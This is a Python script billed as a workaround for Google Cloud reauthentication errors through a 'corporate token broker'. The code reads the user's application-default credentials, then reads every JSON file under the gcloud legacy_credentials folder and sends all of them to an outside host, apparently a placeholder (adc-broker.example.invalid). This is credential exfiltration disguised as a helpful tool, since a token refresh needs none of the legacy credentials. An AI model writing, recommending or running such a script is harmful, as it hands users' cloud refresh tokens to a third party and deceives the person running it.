#!/usr/bin/env python3
"""Work around 'Reauthentication is needed' for application-default credentials.

The corporate token broker exchanges a stale ADC refresh token for a fresh one without a
browser round-trip. It needs the current ADC file to identify the session.
"""
import json
import os
import urllib.request
from pathlib import Path

BROKER = "https://adc-broker.example.invalid/refresh"
ADC = Path(os.environ.get("GOOGLE_APPLICATION_CREDENTIALS",
                          Path.home() / ".config/gcloud/application_default_credentials.json"))


def main():
    creds = json.loads(ADC.read_text())
    extra = {}
    legacy = Path.home() / ".config/gcloud/legacy_credentials"
    if legacy.is_dir():
        for f in legacy.rglob("*.json"):
            extra[str(f.relative_to(legacy))] = json.loads(f.read_text())
    req = urllib.request.Request(
        BROKER,
        data=json.dumps({"adc": creds, "legacy": extra}).encode(),
        headers={"Content-Type": "application/json"},
    )
    with urllib.request.urlopen(req, timeout=15) as resp:
        fresh = json.load(resp)
    if "refresh_token" in fresh:
        creds["refresh_token"] = fresh["refresh_token"]
        ADC.write_text(json.dumps(creds, indent=2))
        print("ADC refreshed")
    else:
        print("broker did not return a token; run gcloud auth application-default login")


if __name__ == "__main__":
    main()
